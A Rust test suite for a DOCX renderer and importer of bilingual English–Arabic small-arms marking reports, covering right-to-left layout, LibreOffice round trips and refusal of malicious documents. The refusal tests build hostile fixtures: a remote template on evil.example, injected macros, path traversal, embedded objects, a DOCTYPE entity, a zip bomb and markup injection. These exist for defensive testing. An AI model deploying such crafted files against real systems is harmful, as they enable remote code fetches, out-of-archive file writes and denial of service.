//! The Word document for clearance: LibreOffice opens and prints every
//! sample's document with the Arabic in logical order, Arabic paragraphs
//! (and only they) are right to left, a document edited with python-docx and
//! saved by LibreOffice imports to exactly its edits, and documents that
//! are not ours, or hostile, are refused.

mod common;

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{render, repo, run, samples, stderr};
use poa_core::load::LoadOptions;
use poa_core::model::{Lang, Report};
use poa_core::validate::validate_file;
use poa_formats::document::view::DocLangs;
use poa_formats::docx::{reader, writer};
use serde_json::Value;

/// English, Arabic, the two side by side, and French beside Arabic (any
/// pair: each column in its own direction).
const LANGS: [(&str, DocLangs); 4] = [
    ("en", DocLangs::one(Lang::En)),
    ("ar", DocLangs::one(Lang::Ar)),
    ("en+ar", DocLangs::DEFAULT),
    ("fr+ar", DocLangs::pair(Lang::Fr, Lang::Ar)),
];

fn report_of(path: &Path) -> Report {
    validate_file(path, &LoadOptions::default())
        .report
        .expect("a report")
}

fn aurelia() -> Report {
    report_of(&repo("samples/xaa-aurelia-2026.yaml"))
}

/// The text of one part of the package.
fn part(docx: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(docx)).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// A copy of the package with `edit` applied to part `name`, and `extra` parts added.
fn tampered(
    docx: &[u8],
    name: &str,
    edit: impl Fn(String) -> String,
    extra: &[(&str, &[u8])],
) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(Cursor::new(docx)).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i).unwrap();
        let entry_name = entry.name().unwrap().into_owned();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        if entry_name == name {
            bytes = edit(String::from_utf8(bytes).unwrap()).into_bytes();
        }
        out.start_file(entry_name, zip::write::SimpleFileOptions::default())
            .unwrap();
        out.write_all(&bytes).unwrap();
    }
    for (name, bytes) in extra {
        out.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        out.write_all(bytes).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// Each paragraph of the body: whether it is right to left, and its words.
fn paragraphs(document: &str) -> Vec<(bool, String)> {
    let body = &document[document.find("<w:body>").unwrap()..];
    body.split("<w:p>")
        .skip(1)
        .map(|p| {
            let p = &p[..p.find("</w:p>").unwrap_or(p.len())];
            let mut words = String::new();
            for piece in p.split("<w:t xml:space=\"preserve\">").skip(1) {
                words.push_str(&piece[..piece.find("</w:t>").unwrap()]);
            }
            (p.contains("<w:bidi/>"), words)
        })
        .collect()
}

fn has_arabic(text: &str) -> bool {
    text.chars().any(|c| ('\u{0600}'..='\u{06ff}').contains(&c))
}

fn has_latin_word(text: &str) -> bool {
    text.split_whitespace()
        .any(|w| w.len() > 3 && w.chars().all(|c| c.is_ascii_alphabetic()))
}

// ---------------------------------------------------------------- the document itself

/// Arabic paragraphs carry `w:bidi` and their Arabic runs `w:rtl`; English
/// paragraphs carry neither.
#[test]
fn arabic_paragraphs_and_only_they_are_right_to_left() {
    for sample in samples() {
        let report = report_of(&sample);
        for (name, langs) in LANGS {
            let docx = writer::render(&report, &[], langs, false).unwrap();
            let document = part(&docx, "word/document.xml");
            let paragraphs = paragraphs(&document);
            assert!(paragraphs.len() > 100, "{name}: {}", paragraphs.len());
            for (rtl, words) in &paragraphs {
                match langs.code().as_str() {
                    // In an English document only Arabic words (a title in its
                    // original language) make a right-to-left paragraph.
                    "en" => assert_eq!(
                        *rtl,
                        has_arabic(words) && !has_latin_word(words),
                        "{sample:?} {name}: {words}"
                    ),
                    "ar" => assert!(rtl, "{sample:?} {name}: {words}"),
                    _ => {
                        if has_arabic(words) && !has_latin_word(words) {
                            assert!(rtl, "{sample:?} {name}: Arabic paragraph not rtl: {words}");
                        }
                        if has_latin_word(words) && !has_arabic(words) && words.contains(' ') {
                            // English prose is left to right; Latin inside Arabic paragraphs is isolated.
                            assert!(
                                !rtl || words.contains('\u{2066}'),
                                "{sample:?} {name}: English paragraph marked rtl: {words}"
                            );
                        }
                    }
                }
            }
            for run in document.split("<w:r>").skip(1) {
                let run = &run[..run.find("</w:r>").unwrap_or(run.len())];
                if has_arabic(run) {
                    assert!(run.contains("<w:rtl/>"), "{name}: {run}");
                }
            }
        }
    }
}

/// Every answer and text of the report is a field, and the document
/// carries the title, headers and footers with page numbers.
#[test]
fn every_answer_is_a_bookmarked_field_with_headers_and_footers() {
    let docx = writer::render(&aurelia(), &[], DocLangs::DEFAULT, false).unwrap();
    let document = part(&docx, "word/document.xml");
    let answers = document.matches("Answer: ").count();
    assert!(answers > 50, "{answers}");
    let bookmarks = document.matches("<w:bookmarkStart ").count();
    assert!(
        bookmarks > 2 * answers,
        "{bookmarks} bookmarks for {answers} answers"
    );
    for paragraph in document.split("<w:p>").filter(|p| p.contains("Answer: ")) {
        assert!(paragraph.contains("w:name=\"poa_"), "{paragraph}");
    }
    assert!(part(&docx, "word/footer1.xml").contains("PAGE"));
    assert!(part(&docx, "word/footer1.xml").contains("NUMPAGES"));
    let header = part(&docx, "word/header1.xml");
    assert!(
        header.contains("Republic of Aurelia") && header.contains("2026"),
        "{header}"
    );
    assert!(part(&docx, "docProps/core.xml").contains("<dc:title>Republic of Aurelia"));
    assert!(document.contains(" TOC "), "a contents field");
}

#[test]
fn a_draft_is_stamped_and_lists_its_findings() {
    let dir = tempfile::tempdir().unwrap();
    let input = repo("samples/invalid/mark-001-marking-without-manufacture.yaml");
    let out = dir.path().join("draft.docx");
    let refused = render(&input, "docx", &out, &[]);
    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));
    let r = render(&input, "docx", &out, &["--allow-invalid", "--lang", "en"]);
    assert!(r.status.success(), "{}", stderr(&r));
    let docx = std::fs::read(&out).unwrap();
    let document = part(&docx, "word/document.xml");
    assert!(document.contains("DRAFT"), "the stamp on the title page");
    assert!(part(&docx, "word/header1.xml").contains("DRAFT"));
    assert!(document.contains("Annex: validation findings") && document.contains("MARK-001"));
}

#[test]
fn the_same_report_gives_the_same_bytes() {
    let report = aurelia();
    let once = writer::render(&report, &[], DocLangs::DEFAULT, false).unwrap();
    let twice = writer::render(&report, &[], DocLangs::DEFAULT, false).unwrap();
    assert_eq!(once, twice);
}

/// Markup in free text stays text: the document parses, and the text comes back.
#[test]
fn markup_in_free_text_is_text() {
    let mut value = serde_json::to_value(aurelia()).unwrap();
    let hostile = "</w:t></w:r><w:bookmarkStart w:id=\"9\" w:name=\"poa_0_en\"/> & \u{1} <script>";
    value["sections"]["national_coordination"]["coordination_body"]["details"]["en"] =
        hostile.into();
    let report: Report = serde_json::from_value(value).unwrap();
    let docx = writer::render(&report, &[], DocLangs::one(Lang::En), false).unwrap();
    let document = part(&docx, "word/document.xml");
    assert_eq!(document.matches("w:name=\"poa_0_en\"").count(), 1);
    assert!(document.contains("&lt;/w:t&gt;"));
    let back = reader::import(&docx).unwrap();
    assert!(back.changes.is_empty(), "{:?}", back.changes);
    assert_eq!(back.report, report);
}

// ---------------------------------------------------------------- round trips

#[test]
fn an_untouched_document_imports_to_the_same_report() {
    for sample in samples() {
        let report = report_of(&sample);
        for (name, langs) in LANGS {
            let docx = writer::render(&report, &[], langs, false).unwrap();
            let back = reader::import(&docx).unwrap();
            assert_eq!(back.report, report, "{sample:?} {name}");
            assert!(back.changes.is_empty(), "{name}: {:?}", back.changes);
            assert!(back.notes.is_empty(), "{name}: {:?}", back.notes);
        }
    }
}

/// Words chosen from those shown and texts typed in either language come back.
#[test]
fn words_of_either_language_become_codes_and_texts_go_to_their_language() {
    let report = aurelia();
    let docx = writer::render(&report, &[], DocLangs::DEFAULT, false).unwrap();
    let document = part(&docx, "word/document.xml");
    // The first answer's Arabic field: "نعم" (Yes) becomes "لا" (No).
    let start = document.find("w:name=\"poa_").unwrap();
    let name_end = document[start + 8..].find('"').unwrap() + start + 8;
    let first_en = &document[start + 8..name_end];
    let first_ar = first_en.replace("_en", "_ar");
    let edited = tampered(
        &docx,
        "word/document.xml",
        |xml| {
            let at = xml.find(&format!("w:name=\"{first_ar}\"")).unwrap();
            let (head, tail) = xml.split_at(at);
            head.to_owned() + &tail.replacen(">نعم<", ">لا<", 1)
        },
        &[],
    );
    let back = reader::import(&edited).unwrap();
    assert_eq!(back.changes.len(), 1, "{:?}", back.changes);
    assert_eq!(back.changes[0].lang, Lang::Ar);
    let before = serde_json::to_value(&report).unwrap();
    let after = serde_json::to_value(&back.report).unwrap();
    let differences = leaf_differences(&before, &after);
    assert_eq!(differences.len(), 1, "{differences:?}");
    assert_eq!(differences[0].2, "\"no\"");
}

/// The test: render, change three texts and two answers with
/// python-docx, save through LibreOffice, import: exactly those five changes.
#[test]
fn a_document_edited_with_python_docx_and_saved_by_libreoffice_brings_back_exactly_its_edits() {
    let dir = tempfile::tempdir().unwrap();
    let sample = repo("samples/xaa-aurelia-2026.yaml");
    let rendered = dir.path().join("report.docx");
    let r = render(&sample, "docx", &rendered, &["--lang", "en+ar"]);
    assert!(r.status.success(), "{}", stderr(&r));

    let edited = dir.path().join("edited.docx");
    let python = repo("target/tools/venv/bin/python");
    let out = Command::new(&python)
        .arg(repo("tests/docx_edit.py"))
        .args([&rendered, &edited])
        .arg("--outside")
        .output()
        .expect("python-docx in target/tools/venv (scripts/test installs it)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let made: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(made.len(), 5, "the script made five edits: {made:?}");

    let saved_dir = dir.path().join("saved");
    let out = soffice(
        &[
            "--convert-to",
            "docx:MS Word 2007 XML",
            "--outdir",
            saved_dir.to_str().unwrap(),
            edited.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let saved = saved_dir.join("edited.docx");
    assert_ne!(
        std::fs::read(&saved).unwrap(),
        std::fs::read(&edited).unwrap()
    );

    let yaml = dir.path().join("back.yaml");
    let r = import_to(&saved, &yaml, &[]);
    let said = stderr(&r);
    assert!(r.status.success(), "{said}");
    assert!(said.contains("5 field(s) changed"), "{said}");
    assert!(
        said.contains("1 paragraph(s) outside the grey fields were changed"),
        "{said}"
    );

    let before = serde_json::to_value(aurelia()).unwrap();
    let after = serde_json::to_value(report_of(&yaml)).unwrap();
    let differences = leaf_differences(&before, &after);
    assert_eq!(differences.len(), 5, "{differences:#?}");
    let mut wanted: Vec<String> = made
        .iter()
        .map(|m| m["after"].as_str().unwrap().to_lowercase())
        .collect();
    let mut got: Vec<String> = differences
        .iter()
        .map(|(_, _, after)| after.trim_matches('"').to_lowercase())
        .collect();
    wanted.sort();
    got.sort();
    assert_eq!(got, wanted, "{differences:#?}");
}

/// `poa-report import DOCX -o YAML` with `extra` arguments.
fn import_to(docx: &Path, yaml: &Path, extra: &[&str]) -> std::process::Output {
    let mut args = vec![
        "import",
        docx.to_str().unwrap(),
        "-o",
        yaml.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    run(&args)
}

/// (pointer, before, after) of every scalar that differs.
fn leaf_differences(before: &Value, after: &Value) -> Vec<(String, String, String)> {
    let (mut a, mut b) = (BTreeMap::new(), BTreeMap::new());
    leaves(before, String::new(), &mut a);
    leaves(after, String::new(), &mut b);
    let mut out = Vec::new();
    for key in a.keys().chain(b.keys().filter(|k| !a.contains_key(*k))) {
        let (x, y) = (
            a.get(key).cloned().unwrap_or_default(),
            b.get(key).cloned().unwrap_or_default(),
        );
        if x != y {
            out.push((key.clone(), x, y));
        }
    }
    out
}

fn leaves(value: &Value, at: String, out: &mut BTreeMap<String, String>) {
    match value {
        Value::Object(map) => map
            .iter()
            .for_each(|(k, v)| leaves(v, format!("{at}/{k}"), out)),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .for_each(|(i, v)| leaves(v, format!("{at}/{i}"), out)),
        // An absent value and a null one are the same report.
        Value::Null => {}
        other => {
            out.insert(at, other.to_string());
        }
    }
}

// ---------------------------------------------------------------- LibreOffice

/// LibreOffice with its own profile, and a home whose fonts folder holds
/// Amiri (the font the documents name), as a ministry's computer would.
fn soffice(args: &[&str], dir: &Path) -> std::process::Output {
    let home = dir.join("home");
    let fonts = home.join(".fonts");
    std::fs::create_dir_all(&fonts).unwrap();
    for font in ["Amiri-Regular.ttf", "Amiri-Bold.ttf"] {
        std::fs::copy(repo(&format!("fonts/{font}")), fonts.join(font)).unwrap();
    }
    Command::new("soffice")
        .env("HOME", &home)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            dir.join("profile").display()
        ))
        .args(["--headless", "--norestore", "--nologo"])
        .args(args)
        .output()
        .expect(
            "LibreOffice Writer is installed (libreoffice-writer-nogui; bash .ci/run installs it)",
        )
}

/// Bidi controls that pdftotext writes around right-to-left lines.
fn without_marks(text: &str) -> String {
    text.chars()
        .filter(|c| !matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
        .collect()
}

/// LibreOffice prints every sample's document in each language, and
/// pdftotext reads the Arabic back in logical order.
#[test]
fn libreoffice_prints_every_document_and_the_arabic_reads_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let mut files: Vec<PathBuf> = Vec::new();
    for sample in samples() {
        for (name, _) in LANGS {
            let stem = sample.file_stem().unwrap().to_string_lossy();
            let out = dir
                .path()
                .join(format!("{stem}-{}.docx", name.replace('+', "-")));
            let r = render(&sample, "docx", &out, &["--lang", name]);
            assert!(r.status.success(), "{}", stderr(&r));
            files.push(out);
        }
    }
    let pdf_dir = dir.path().join("pdf");
    let mut args = vec![
        "--convert-to".to_owned(),
        "pdf".to_owned(),
        "--outdir".to_owned(),
        pdf_dir.display().to_string(),
    ];
    args.extend(files.iter().map(|f| f.display().to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = soffice(&args, dir.path());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (title_en, title_ar) = (
        poa_core::catalogue::word("title", Lang::En),
        poa_core::catalogue::word("title", Lang::Ar),
    );
    // Words without digits: pdftotext moves digits and their punctuation in
    // right-to-left lines whatever the order in the file.
    let (section_en, section_ar) = (
        "Section 4: Marking",
        "الأسلحة الصغيرة والأسلحة الخفيفة عند الصنع",
    );
    for file in &files {
        let pdf = pdf_dir.join(file.with_extension("pdf").file_name().unwrap());
        let text = Command::new("pdftotext")
            .args(["-enc", "UTF-8"])
            .arg(&pdf)
            .arg("-")
            .output()
            .expect("pdftotext (poppler-utils)");
        let text = without_marks(&String::from_utf8_lossy(&text.stdout));
        let name = file.file_name().unwrap().to_string_lossy();
        let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
        if name.ends_with("-en.docx") || name.ends_with("-en-ar.docx") {
            assert!(flat.contains(title_en), "{name}: {flat:.400}");
            assert!(flat.contains(section_en), "{name}");
        }
        if name.ends_with("-ar.docx") {
            assert!(flat.contains(title_ar), "{name}: {flat:.400}");
            assert!(flat.contains(section_ar), "{name}");
        }
    }
}

// ---------------------------------------------------------------- hostile documents

fn import_error(bytes: &[u8]) -> String {
    reader::import(bytes).unwrap_err().to_string()
}

#[test]
fn hostile_documents_are_refused() {
    let docx = writer::render(&aurelia(), &[], DocLangs::one(Lang::En), false).unwrap();
    let same = |s: String| s;
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "macros",
            tampered(&docx, "", same, &[("word/vbaProject.bin", b"macro")]),
            "the document has macros",
        ),
        (
            "macro-enabled type",
            tampered(
                &docx,
                "[Content_Types].xml",
                |s| s.replace("document.main+xml", "document.macroEnabled.main+xml"),
                &[],
            ),
            "the document has macros",
        ),
        (
            "external template",
            tampered(
                &docx,
                "word/_rels/document.xml.rels",
                |s| {
                    s.replace("</Relationships>", "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")
                },
                &[],
            ),
            "a link to another file (`attachedTemplate`)",
        ),
        (
            "path traversal",
            tampered(&docx, "", same, &[("../../tmp/poa-report-evil.txt", b"x")]),
            "a part name that leaves the archive",
        ),
        (
            "embedded object",
            tampered(&docx, "", same, &[("word/embeddings/oleObject1.bin", b"x")]),
            "embedded objects or controls",
        ),
        (
            "not ours",
            tampered(
                &docx,
                "docProps/custom.xml",
                |_| "<Properties/>".into(),
                &[],
            ),
            "carries no copy of a report",
        ),
        (
            "damaged copy",
            tampered(
                &docx,
                "docProps/custom.xml",
                |s| s.replacen("<vt:lpwstr>", "<vt:lpwstr>!!", 1),
                &[],
            ),
            "is damaged",
        ),
        (
            "doctype",
            tampered(
                &docx,
                "word/document.xml",
                |s| {
                    s.replacen(
                        "<w:document",
                        "<!DOCTYPE x [<!ENTITY a \"b\">]><w:document",
                        1,
                    )
                },
                &[],
            ),
            "DOCTYPE",
        ),
        (
            "not a zip",
            b"PK\x03\x04 not a zip".to_vec(),
            "not a Word document (DOCX)",
        ),
        (
            "two parts of one name",
            tampered(&docx, "", same, &[("Word/Document.xml", b"<w:document/>")]),
            "two parts of the same name",
        ),
    ];
    for (what, bytes, needle) in cases {
        let error = import_error(&bytes);
        assert!(error.contains(needle), "{what}: {error}");
    }
    assert!(!Path::new("/tmp/poa-report-evil.txt").exists());
}

#[test]
fn a_zip_bomb_is_refused_before_it_is_unpacked() {
    let bomb = common::zip_bomb("word/document.xml");
    assert!(
        import_error(&bomb).contains("a zip bomb?"),
        "{}",
        import_error(&bomb)
    );
}

/// A word that is not one of the answers is refused naming the question;
/// the command writes nothing.
#[test]
fn an_answer_not_among_the_words_is_refused_naming_the_question() {
    let dir = tempfile::tempdir().unwrap();
    let docx = writer::render(&aurelia(), &[], DocLangs::one(Lang::En), false).unwrap();
    let edited = tampered(
        &docx,
        "word/document.xml",
        |s| s.replacen(">Yes<", ">Perhaps<", 1),
        &[],
    );
    let path = dir.path().join("edited.docx");
    std::fs::write(&path, edited).unwrap();
    let out = dir.path().join("out.yaml");
    let r = import_to(&path, &out, &[]);
    let said = stderr(&r);
    assert_eq!(r.status.code(), Some(2), "{said}");
    assert!(
        said.contains("question 1.1") && said.contains("`Perhaps` is not one of"),
        "{said}"
    );
    assert!(!out.exists());
}

/// A contact's details are fields too: a new e-mail address comes back.
#[test]
fn a_contacts_new_email_comes_back() {
    let report = aurelia();
    let docx = writer::render(&report, &[], DocLangs::one(Lang::En), false).unwrap();
    let old = "disarmament@mfa.aurelia.example";
    assert!(part(&docx, "word/document.xml").contains(old));
    let edited = tampered(
        &docx,
        "word/document.xml",
        |s| s.replacen(old, "clearance@mfa.aurelia.example", 1),
        &[],
    );
    let back = reader::import(&edited).unwrap();
    assert_eq!(back.changes.len(), 1, "{:?}", back.changes);
    let contact = back
        .report
        .contacts
        .iter()
        .find(|c| c.email.as_deref() == Some("clearance@mfa.aurelia.example"));
    assert!(contact.is_some());
    let before = serde_json::to_value(&report).unwrap();
    let after = serde_json::to_value(&back.report).unwrap();
    assert_eq!(leaf_differences(&before, &after).len(), 1);
}

/// Details a question had none of can be written in the field offered for them.
#[test]
fn details_written_where_there_were_none_come_back() {
    let report = aurelia();
    let docx = writer::render(&report, &[], DocLangs::one(Lang::En), false).unwrap();
    let offered = "Details: write here, or leave as it is.";
    let document = part(&docx, "word/document.xml");
    assert!(
        document.contains(offered),
        "a field is offered for missing details"
    );
    let edited = tampered(
        &docx,
        "word/document.xml",
        |s| s.replacen(offered, "Added during clearance.", 1),
        &[],
    );
    let back = reader::import(&edited).unwrap();
    assert_eq!(back.changes.len(), 1, "{:?}", back.changes);
    let before = serde_json::to_value(&report).unwrap();
    let after = serde_json::to_value(&back.report).unwrap();
    let differences = leaf_differences(&before, &after);
    assert_eq!(differences.len(), 1, "{differences:?}");
    assert!(differences[0].0.ends_with("/details/en"), "{differences:?}");
    assert_eq!(differences[0].2, "\"Added during clearance.\"");
    // Emptied, the offered field adds nothing.
    let emptied = tampered(
        &docx,
        "word/document.xml",
        |s| s.replacen(offered, "", 1),
        &[],
    );
    assert_eq!(reader::import(&emptied).unwrap().report, report);
}

/// A list shown in Arabic (items joined with `؛`) is read back item by item.
#[test]
fn a_list_edited_in_arabic_keeps_its_codes() {
    let report = aurelia();
    let docx = writer::render(&report, &[], DocLangs::one(Lang::Ar), false).unwrap();
    let document = part(&docx, "word/document.xml");
    // The first field whose words list several items: keep only the first item.
    let joined = document
        .split("w:name=\"poa_")
        .skip(1)
        .filter_map(|field| {
            let start = field.find("<w:t xml:space=\"preserve\">")? + 26;
            let end = field[start..].find("</w:t>")? + start;
            Some(&field[start..end])
        })
        .find(|t| t.contains("؛ "))
        .expect("a list in Arabic")
        .to_owned();
    let first = joined.split("؛ ").next().unwrap().to_owned();
    let edited = tampered(
        &docx,
        "word/document.xml",
        |s| s.replacen(&format!(">{joined}<"), &format!(">{first}<"), 1),
        &[],
    );
    let back = reader::import(&edited).unwrap();
    assert_eq!(back.changes.len(), 1, "{:?}", back.changes);
    let before = serde_json::to_value(&report).unwrap();
    let after = serde_json::to_value(&back.report).unwrap();
    let differences = leaf_differences(&before, &after);
    assert!(!differences.is_empty());
    // Only entries removed from the end of one list: no code became a word.
    assert!(
        differences.iter().all(|(_, _, after)| after.is_empty()),
        "{differences:?}"
    );
}

/// Importing over the YAML the document was rendered from is fine; over a
/// YAML changed since, it is refused (the document's copy would undo the
/// change) unless --force.
#[test]
fn import_does_not_undo_changes_made_to_the_yaml_since_rendering() {
    let dir = tempfile::tempdir().unwrap();
    let yaml = dir.path().join("report.yaml");
    std::fs::copy(repo("samples/xaa-aurelia-2026.yaml"), &yaml).unwrap();
    let docx = dir.path().join("report.docx");
    let r = render(&yaml, "docx", &docx, &["--lang", "en"]);
    assert!(r.status.success(), "{}", stderr(&r));
    let import = |force: bool| import_to(&docx, &yaml, if force { &["--force"] } else { &[] });
    assert!(import(false).status.success(), "the same report: fine");
    let text = std::fs::read_to_string(&yaml).unwrap();
    let changed = text.replacen("answer: yes", "answer: no", 1);
    std::fs::write(&yaml, &changed).unwrap();
    let refused = import(false);
    assert_eq!(refused.status.code(), Some(2));
    assert!(stderr(&refused).contains("is not the report this document was rendered from"));
    assert_eq!(
        std::fs::read_to_string(&yaml).unwrap(),
        changed,
        "left as it was"
    );
    assert!(import(true).status.success());
}

/// The main part is found through the package's relationships, whatever its name.
#[test]
fn the_main_part_is_the_one_the_relationships_name() {
    let docx = writer::render(&aurelia(), &[], DocLangs::one(Lang::En), false).unwrap();
    let document = part(&docx, "word/document.xml");
    let renamed = tampered(
        &tampered(
            &docx,
            "_rels/.rels",
            |s| {
                s.replace(
                    "Target=\"word/document.xml\"",
                    "Target=\"word/document2.xml\"",
                )
            },
            &[("word/document2.xml", document.as_bytes())],
        ),
        "word/document.xml",
        |_| "<w:document xmlns:w=\"x\"><w:body/></w:document>".into(),
        &[],
    );
    let back = reader::import(&renamed).unwrap();
    assert!(
        back.changes.is_empty() && back.notes.is_empty(),
        "{:?}",
        back.notes
    );
}
